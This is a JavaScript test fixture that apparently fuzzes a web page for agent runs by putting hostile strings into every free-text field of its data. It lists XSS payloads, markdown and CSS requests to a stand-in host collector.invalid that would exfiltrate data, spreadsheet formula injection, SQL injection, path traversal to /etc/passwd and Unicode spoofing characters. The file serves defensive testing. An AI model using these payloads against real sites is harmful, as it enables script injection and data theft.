// Texts of somebody who means harm, put in the place of every text that is a player's, a model's or a
// world's. What the page needs to find its way (ids, times, words of a closed set) stays.

const SCRIPTS = [
  '<script>window.pwned=1</script>',
  '<img src=x onerror=window.pwned=2>',
  '"><svg/onload=window.pwned=3>',
  "';window.pwned=4;//",
  'javascript:window.pwned=5',
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=window.pwned=6 )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.pwned=6//>\\x3e',
  '<iframe src="javascript:parent.pwned=7"></iframe>',
  '<a href="javascript:window.pwned=8">go</a>',
  '![x](http://collector.invalid/?q=1)',
  '[x](http://collector.invalid/)',
  '<link rel=stylesheet href=http://collector.invalid/x.css>',
  '<style>@import "http://collector.invalid/x.css";*{display:none}</style>',
  '<base href=http://collector.invalid/>',
  '<meta http-equiv=refresh content="0;url=http://collector.invalid/">',
  '<form action=http://collector.invalid/><button autofocus onfocus=window.pwned=9>',
  '<math><mtext></table></math><img src=x onerror=window.pwned=10>',
  '<details open ontoggle=window.pwned=11>',
  '<video><source onerror=window.pwned=12></video>',
  '{{constructor.constructor("window.pwned=13")()}}',
  '${window.pwned=14}',
  '<template><script>window.pwned=15</script></template>',
  '<object data="data:text/html,<script>parent.pwned=16</script>">',
  'data:text/html,<script>window.pwned=17</script>',
  '</title><script>window.pwned=18</script>',
  '--><script>window.pwned=19</script>',
  ']]><script>window.pwned=20</script>',
  '&lt;script&gt;window.pwned=21&lt;/script&gt;',
  '\u0000<script>window.pwned=22</script>',
  '__proto__',
  'constructor',
];
const HIDDEN = [0x202a, 0x202b, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x2060, 0xfeff, 0xad, 0x61c, 0x180e, 0x2028, 0x2029, 0xfff9, 0xe0041, 0x3164, 0x115f, 0x7f, 0x85, 0x9b, 0x1b, 0x07, 0x08, 0x0c].map(
  (point) => 'safe' + String.fromCodePoint(point) + 'evil',
);
const ODD = [
  '\u202Egnp.exe\u202C.txt',
  'مرحبا بالعالم שלום עולם',
  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}'.repeat(50),
  'Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324'.repeat(80),
  '\ud800 half \udfff a character',
  '\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b]8;;http://collector.invalid/\x1b\\link\x1b]8;;\x1b\\',
  '\r\nSet-Cookie: a=b\r\n\r\n',
  '=cmd|\' /C calc\'!A0',
  '+1+1',
  '@SUM(1+9)*cmd',
  'W'.repeat(5_000),
  '​'.repeat(2_000),
  '\n'.repeat(400),
  '\t'.repeat(400),
  '\u0e47'.repeat(300),
  '﷽'.repeat(60),
  '𒐫'.repeat(60),
  '../../../etc/passwd',
  '%2e%2e%2f%00',
  "Robert'); DROP TABLE agents;--",
  'null',
  'undefined',
  'NaN',
  '',
  ' ',
  '\u00a0'.repeat(500),
  'a'.repeat(63) + '.' + 'b'.repeat(400),
  'http://collector.invalid/?token=secret',
  '//collector.invalid/x.js',
  'a\u0301'.repeat(200),
];
const WRAPS = [(text) => text, (text) => text + text, (text) => 'x ' + text, (text) => '\u202e' + text, (text) => JSON.stringify(text)];

export const STRINGS = WRAPS.flatMap((wrap) => [...SCRIPTS, ...HIDDEN, ...ODD].map(wrap));
export const MEGABYTE = 'M'.repeat(1024 * 1024);

// What the page finds its way by, and words of closed sets of ours.
const KEPT = new Set(
  'type role seq at since until opened closed openedAt closedAt deadline askedAt expiresAt asOf viewAt viewAsOf oldest newest agent run world state status approval id action argsHash turn hash journaled csrf oldestWait openRun allowed roles next at effect mode'.split(' '),
);

/** The answer with a hostile text in every place that takes one, beginning with the `from`th. */
export function hostile(answer, from) {
  let next = from;
  const turned = (value, key) => {
    if (typeof value === 'string') {
      return KEPT.has(key) ? value : STRINGS[next++ % STRINGS.length];
    }
    if (Array.isArray(value)) {
      return value.map((one) => turned(one, key));
    }
    if (value !== null && typeof value === 'object') {
      return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, turned(one, name)]));
    }
    return value;
  };
  return turned(answer, '');
}
